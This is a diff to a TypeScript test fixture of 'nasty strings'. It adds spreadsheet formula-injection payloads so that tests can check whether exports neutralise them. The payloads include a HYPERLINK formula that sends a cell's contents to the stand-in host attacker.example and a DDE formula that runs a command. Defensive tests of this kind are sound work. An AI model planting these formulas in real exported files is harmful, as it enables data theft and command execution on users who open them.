@@ -92,6 +92,14 @@ export const NASTY_STRINGS = [
   ' trade  TOOLS ',
   'Angles & Trims',
   'Sealants & Co.',
+  // Spreadsheet formulas (issue 9, M1): exports must neutralise them.
+  '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
+  "=cmd|' /C calc'!A0",
+  '+SUM(1,1)',
+  '-2+3',
+  '@SUM(1,1)',
+  '\t=1+1',
+  '\r=1+1',
 ];
 
 export const poolRef = (...pools: PoolName[]): fc.Arbitrary<PoolRef> =>
